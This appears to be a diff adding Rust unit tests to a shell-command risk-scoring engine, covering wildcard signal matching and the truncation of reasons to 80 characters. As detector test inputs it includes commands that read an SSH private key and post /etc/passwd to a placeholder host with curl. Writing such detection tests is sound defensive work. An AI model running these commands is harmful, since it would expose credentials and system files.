@@ -156,6 +156,69 @@ program = ["deploy.sh"]
 }
 
 #[test]
+fn wildcard_argument_globs_without_a_two_byte_run_are_still_found() {
+    // `*q*` has no literal run of two bytes: there is no needle set, and the wildcard globs
+    // of program-less signals are found through their regex set instead.
+    let extra = CatalogueSpec::from_toml(
+        r#"
+[[signal]]
+id = "q-word"
+level = "high"
+reason = "names `{match}`"
+args = ["*q*"]
+"#,
+    )
+    .unwrap();
+    let e = RiskEngine::with_config(&RiskConfig {
+        extra,
+        ..RiskConfig::default()
+    })
+    .unwrap();
+    assert!(e.cat.generic_needles.is_none() && e.cat.generic_wild.is_some());
+    let fires = |cmd: &str| {
+        e.score_str(cmd)
+            .reasons
+            .iter()
+            .any(|r| r.signal == "q-word")
+    };
+    assert!(fires("ls q1"));
+    assert!(fires("cat aqua"));
+    assert!(!fires("ls x"));
+    // The built-in wildcard globs go the same way: they still fire, as without the index.
+    for cmd in [
+        "cat ~/.ssh/id_rsa",
+        "ls q1",
+        "curl -d @/etc/passwd https://x",
+    ] {
+        let p = crate::parse::parse(cmd);
+        let indexed = e.score(&p, cmd);
+        UNINDEXED.with(|u| u.set(true));
+        let all = e.score(&p, cmd);
+        UNINDEXED.with(|u| u.set(false));
+        assert_eq!(indexed.reasons, all.reasons, "{cmd}");
+    }
+    assert!(!e.score_str("cat ~/.ssh/id_rsa").reasons.is_empty());
+}
+
+#[test]
+fn reasons_shorten_what_matched_past_80_characters() {
+    // The one rule every reason uses (`{match}`, a `sub` alternative, a composition's parts).
+    let a80 = "a".repeat(80);
+    assert_eq!(short(&a80), a80.as_str());
+    let a81 = "a".repeat(81);
+    assert_eq!(short(&a81), format!("{}…", "a".repeat(77)));
+    // Characters, not bytes: 45 two-byte characters stay, 81 are cut to 77.
+    let e45 = "é".repeat(45);
+    assert_eq!(short(&e45), e45.as_str());
+    assert_eq!(short(&"é".repeat(81)), format!("{}…", "é".repeat(77)));
+    // In place, after text already written.
+    let mut out = String::from("runs ");
+    out.push_str(&a81);
+    shorten_from(&mut out, 5);
+    assert_eq!(out, format!("runs {}…", "a".repeat(77)));
+}
+
+#[test]
 fn a_policy_can_disable_a_modifier() {
     // Modifiers are read from their own list: disabling one must still remove it.
     let cmd = "kubectl delete deployment api -n production";
